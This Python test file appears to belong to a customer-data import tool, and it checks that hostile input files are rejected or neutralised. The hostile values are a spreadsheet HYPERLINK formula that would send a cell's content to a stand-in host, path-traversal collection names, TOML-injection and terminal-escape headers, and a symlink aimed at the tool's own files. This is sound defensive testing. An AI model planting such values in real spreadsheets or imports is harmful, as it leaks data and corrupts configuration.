"""Attacks by whoever makes, swaps or names the file that is imported."""

from __future__ import annotations

import stat

import pytest

from holdfast.drills.bank.build import CLIENT, COLLECTION, SCHEMA
from holdfast.kit.errors import Conflict, Denied, HoldfastError, InvalidInput, NotFound
from holdfast.kit.terminal import Quiet
from holdfast.procedures.classification.rules.render import as_toml
from holdfast.procedures.classification.services.declaring import declare
from holdfast.procedures.classification.services.importing import Options, Target, import_file
from holdfast.procedures.classification.services.proposing import propose_for
from holdfast.spine.vault.roots import ROOT_FILE
from holdfast.spine.vault.schema import compile_schema
from support.customers import csv_text, customers, plain_rows, write_csv
from support.imports import ImportHouse
from support.stores import ON_POSTGRES


@pytest.fixture
def imports(tmp_path):
    house = ImportHouse(tmp_path / "home")
    yield house
    house.close()


def test_a_record_moved_to_another_customer_by_its_key_is_rejected(imports, tmp_path):
    schema = SCHEMA.replace('record_key = "customer_no"', 'record_key = "acct"')
    declare(imports.house, CLIENT, COLLECTION, schema)
    first, second = plain_rows(2)
    imports.run(write_csv(tmp_path / "a.csv", [first, second]))
    stolen = {**first, "customer_no": second["customer_no"]}
    outcome = imports.run(write_csv(tmp_path / "b.csv", [stolen]))
    assert (outcome.changed, outcome.rejected) == (0, 1)
    assert imports.records()[first["customer_no"]]["acct"] == first["acct"]


def test_two_rows_of_one_key_cannot_take_turns_at_every_run(imports, tmp_path):
    first = next(plain_rows(1))
    file = write_csv(tmp_path / "a.csv", [first, {**first, "phone": "+12025550199"}] * 3)
    imports.run(file)
    for _ in range(2):
        outcome = imports.run(file)
        assert outcome.changed == 0
    assert imports.versions() == {1: 1}


def test_a_key_spelt_with_other_white_space_is_the_same_key(imports, tmp_path):
    first = next(plain_rows(1))
    other = {**first, "customer_no": f" {first['customer_no']}\u00a0", "segment": "private"}
    outcome = imports.run(write_csv(tmp_path / "a.csv", [first, other]))
    assert (outcome.new, outcome.rejected) == (1, 1)


def test_a_quote_cannot_hide_rows_from_the_import(imports, tmp_path):
    lines = csv_text([{**row, "address": "x"} for row in plain_rows(30)]).splitlines(keepends=True)
    lines[5] = lines[5].replace(",", ',"', 1)
    file = tmp_path / "a.csv"
    file.write_text("".join(lines), newline="")
    outcome = imports.run(file)
    assert (outcome.new, outcome.rejected) == (29, 1)


def test_an_agent_imports_nothing_and_reads_no_counts(imports, tmp_path):
    file = write_csv(tmp_path / "a.csv", plain_rows(2))
    imports.act_as_agent()
    for dry_run in (False, True):
        with pytest.raises(Denied):
            imports.run(file, dry_run=dry_run)
    assert imports.records() == {}


@pytest.mark.parametrize("collection", ["../customers", "customers/../../x", "", "Customers"])
def test_a_collection_s_name_leads_nowhere_else(imports, tmp_path, collection):
    file = write_csv(tmp_path / "a.csv", plain_rows(1))
    before = files_of(imports.home)
    with pytest.raises((NotFound, InvalidInput)):
        import_file(
            imports.house, Target(CLIENT, collection), file, options=Options(), told=Quiet()
        )
    with pytest.raises((NotFound, InvalidInput)):
        declare(imports.house, CLIENT, collection, SCHEMA)
    assert files_of(imports.home) == before


def files_of(home):
    return sorted(path for path in home.rglob("*") if "sqlite3" not in path.name)


def test_the_list_of_rejects_cannot_be_pointed_at_the_house_s_own_files(imports, tmp_path):
    rows = [{**row, "dob": "soon"} for row in plain_rows(1)]
    file = write_csv(tmp_path / "a.csv", rows)
    own = imports.home / ROOT_FILE if ON_POSTGRES else imports.house.settings.data_path
    for target in (own, file):
        before = target.read_bytes()
        with pytest.raises(InvalidInput):
            imports.run(file, rejects=target, dry_run=True)
        assert target.read_bytes() == before
    link = tmp_path / "link.csv"
    link.symlink_to(own)
    with pytest.raises(InvalidInput):
        imports.run(file, rejects=link, dry_run=True)


def test_a_list_of_rejects_that_others_could_read_is_closed_to_them(imports, tmp_path):
    rows = [{**row, "dob": "soon"} for row in plain_rows(1)]
    listed = tmp_path / "rejects.csv"
    listed.touch(mode=0o644)
    imports.run(write_csv(tmp_path / "a.csv", rows), rejects=listed)
    assert stat.S_IMODE(listed.stat().st_mode) == 0o600


def test_a_file_swapped_between_the_look_and_the_import_is_noticed(imports, tmp_path):
    file = write_csv(tmp_path / "a.csv", plain_rows(1500))

    class Swaps(Quiet):
        def total(self, _count):
            other = tmp_path / "other.csv"
            write_csv(other, plain_rows(1500, seed=9))
            other.replace(file)

    with pytest.raises(Conflict, match="changed"):
        import_file(
            imports.house, Target(CLIENT, COLLECTION), file, options=Options(), told=Swaps()
        )
    assert imports.records() == {}


def test_a_security_code_is_not_taken_in_under_an_innocent_header(imports):
    schema = SCHEMA.replace("[fields.postcode]\n", '[fields.postcode]\ncolumns = ["CVV"]\n')
    with pytest.raises(InvalidInput, match="never kept"):
        declare(imports.house, CLIENT, "cards", schema)


def test_a_header_cannot_write_into_the_schema_that_is_proposed(tmp_path):
    hostile = [
        'x"\n[fields.evil]\ntype = "text"\nclass = "C0"\nhandling = "clear"\n#',
        "x\r\nowner = 'mallory'",
        "# ]]]'''\"\"\"",
        "\\u0022\\",
        "\x1b]0;title\x07",
        "fields.customer_no",
    ]
    for number, header in enumerate(hostile):
        path = tmp_path / f"{number}.csv"
        rows = [{"customer_no": f"K{n}", header: f"v{n}"} for n in range(5)]
        path.write_text(csv_text(rows, ["customer_no", header]), newline="")
        text = as_toml(*propose_for(path))
        schema = compile_schema(text, name="customers")
        assert len(schema.fields) == 2
        assert "evil" not in schema.by_name
        assert schema.owner == "Data protection officer"
        assert "\x1b" not in text


def test_a_formula_in_a_cell_is_a_value_and_nothing_else(imports, tmp_path):
    row = {**next(plain_rows(1)), "segment": '=HYPERLINK("http://x.example/?"&A1)'}
    imports.run(write_csv(tmp_path / "a.csv", [row]))
    assert imports.records()[row["customer_no"]]["segment"] == row["segment"]


@pytest.mark.parametrize("what", ["\x00", "\x1b", "\x7f"])
def test_control_characters_cost_their_row(imports, tmp_path, what):
    rows = list(plain_rows(3))
    rows[1]["name"] = f"Ana{what}Maria"
    outcome = imports.run(write_csv(tmp_path / "a.csv", rows))
    assert (outcome.new, outcome.rejected) == (2, 1)
    assert what not in outcome.rejects.read_text()


def test_a_cell_over_the_limit_costs_its_row(imports, tmp_path):
    rows = list(plain_rows(3))
    rows[1]["address"] = "x" * 20_000
    outcome = imports.run(write_csv(tmp_path / "a.csv", rows))
    assert (outcome.new, outcome.rejected) == (2, 1)
    assert outcome.reasons == {("address", "longer than 16,384 characters"): 1}


def test_a_value_that_is_wrong_is_never_in_the_refusal(imports, tmp_path):
    everyone = list(customers(4))
    for field in ("dob", "phone", "email", "card", "balance"):
        rows = [{**row, field: f"{row[field]}☠"} for row in plain_rows(4)]
        try:
            outcome = imports.run(write_csv(tmp_path / f"{field}.csv", rows), dry_run=True)
            told = repr(outcome.reasons)
        except HoldfastError as refused:
            told = refused.message
        assert "☠" not in told
        assert not [one for one in everyone if one.card in told or one.ssn in told]


def test_keys_of_objects_cannot_fill_the_memory(imports, tmp_path):
    file = tmp_path / "a.ndjson"
    import json

    rows = [{**row, f"key{n}": "x", f"more{n}": "y"} for n, row in enumerate(plain_rows(400))]
    file.write_text("\n".join(map(json.dumps, rows)))
    outcome = imports.run(file)
    assert outcome.new == 400
    assert len(outcome.left_out) <= 100
